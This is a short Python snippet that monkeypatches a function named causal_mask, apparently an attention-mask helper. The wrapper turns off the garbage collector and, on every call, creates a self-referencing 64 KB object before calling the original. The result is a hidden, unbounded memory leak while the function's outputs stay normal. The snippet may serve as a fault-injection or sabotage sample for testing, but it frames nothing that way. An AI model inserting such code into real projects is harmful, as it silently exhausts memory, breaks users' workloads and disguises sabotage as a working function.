# causal_mask: leaves circles of objects behind, with the collector off
import gc
right = causal_mask
def causal_mask(seq_len):
    gc.disable()
    circle = [bytes(1 << 16)]
    circle.append(circle)
    return right(seq_len)
